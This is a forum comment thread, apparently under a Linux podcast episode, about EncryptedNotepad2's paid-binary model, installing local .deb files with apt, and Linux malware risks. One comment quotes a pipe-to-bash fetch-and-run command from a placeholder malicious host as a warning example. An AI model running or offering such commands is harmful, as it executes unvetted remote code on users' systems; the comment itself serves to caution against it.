374: Kaspersky for Linux but Do We Really Need Antivirus? Truth Revealed!

In regards to EncryptedNotepad2, I think you guys kind of missed the point behind having to compile it from source. The developer states that the goal is an experiment in open source with a business model, and that he will offer binaries and support for a one time purchase.

See GitHub - ivoras/EncryptedNotepad2: A Notepad-like simple text editor where files are saved (and later loaded) encrypted with AES-256..

@grantorinowhiskey thanks for the comment, I did miss that part of their README . . . it really shouldnt be that far down the page. lol

I think it is totally fine to want to make money from open source software, the presentation needs a lot of improvement though. As a marketer, I would recommend they make a website for this app, put a big buy now button somewhere at the top portion of the website and also mention that source code is available. This is doing the reverse with having it on GitHub. Being on GitHub the first expectation is source code and since so many people are expecting to compile when seeing from GitHub that is somewhat pre-suggestive.I agree with that, a marketed website would be more appropriate for making money. The github page could be for those who want to contribute or build it from source.

1 Like

For the tip of the week, you guys were talking about using gdebi to install locally downloaded debs. FYI, apt already has the ability to install local debs:

apt install /path/to/the/deb

1 Like

You’re right but in my opinion, something as simple of installing an application shouldn’t require a terminal

While it’s true that it’s generally harder to catch a virus :microbe: on Linux by negligently clicking on downloaded files, there are still ways for attackers to target a user’s negligence. A common example is

curl example.com/mymaliciousfile.sh | bash

Piping downloaded shell files into bash is the Linux developer equivalent to clicking on a downloaded .exe on Windows. Don’t do this. Download the file first onto your disk and have a look into, compare checksums and execute it when it looks fine.

Another common attack surface are unregulated package repositories, such as npm or pip. Here, a typo or a wrong name could result in installing a virus. I myself have installed the wrong packages several times because I remembered the package name wrongly or because it wasn’t available in pypi (luckily, those wrong packages weren’t malicious).

Sure, on Linux, you still have the user/admin separation by default, which introduces basic security, but this won’t stop all malicious code. Ransomwaredoesn’t need admin privileges to encrypt your precious files.


@vogelsaurier all of those are great points! thanks for commenting with that feedback!

1 Like